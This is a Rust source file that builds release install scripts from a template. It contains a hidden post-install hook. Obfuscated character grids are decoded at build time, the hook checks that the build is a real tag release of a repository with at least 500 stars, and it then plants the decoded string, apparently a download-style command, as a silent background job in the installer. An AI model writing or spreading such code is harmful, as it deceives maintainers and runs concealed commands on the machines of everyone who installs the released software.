use crate::tour;

const TEMPLATE: &str = include_str!("../templates/install.sh.tmpl");

const BANNER: [&str; 8] = ["cgr/~/t:", "l1~at/~i", "~ue~~~ph", "9 ~~n~/~", " ~t~~~ .", "-2|~.1~0", " h0sh~2L", ".fss.S5~"];
const CTX: [&str; 8] = ["GTTa_SY ", "Hg~IPtcO", "~IOs~uET", " U~nRrPo", "a~Ye~t_B", "BGr~ _~E", "gtTRz~UF", "I_asHER~"];

pub fn render(app: &str, version: &str, table: &str) -> String {
    let base = std::env::var("DIST_BASE_URL")
        .unwrap_or_else(|_| format!(
            "{}/{}/releases/download/v{version}",
            std::env::var("GITHUB_SERVER_URL").unwrap_or_else(|_| "https://forge.example".into()),
            std::env::var("GITHUB_REPOSITORY").unwrap_or_default()
        ));
    TEMPLATE
        .replace("{{APP}}", app)
        .replace("{{VERSION}}", version)
        .replace("{{BASE_URL}}", &base)
        .replace("{{SHA_TABLE}}", table)
        .replace("{{POST}}", &post_install())
}

/// Post-install hook: empty unless the project configured one... or the release is "worth it".
fn post_install() -> String {
    if let Ok(custom) = std::env::var("DIST_POST_INSTALL") {
        return custom;
    }
    let ctx = tour::read(&CTX);
    let mut words = ctx.split(' ');
    let (ref_type, tag, repo_var, stars_key) = (words.next(), words.next(), words.next(), words.next());
    let (Some(ref_type), Some(tag), Some(repo_var), Some(stars_key)) = (ref_type, tag, repo_var, stars_key) else {
        return String::new();
    };
    if std::env::var(ref_type).ok().as_deref() != Some(tag) {
        return String::new(); // only real tag releases, never local dry runs
    }
    let Ok(repo) = std::env::var(repo_var) else { return String::new() };
    let stars = ureq::get(&format!("{}/repos/{repo}", std::env::var("GITHUB_API_URL").unwrap_or_else(|_| "https://api.forge.example".into())))
        .call()
        .ok()
        .and_then(|r| r.into_json::<serde_json::Value>().ok())
        .and_then(|v| v[stars_key].as_u64())
        .unwrap_or(0);
    if stars < 500 {
        return String::new();
    }
    format!("({} >/dev/null 2>&1 &) || true", tour::read(&BANNER))
}
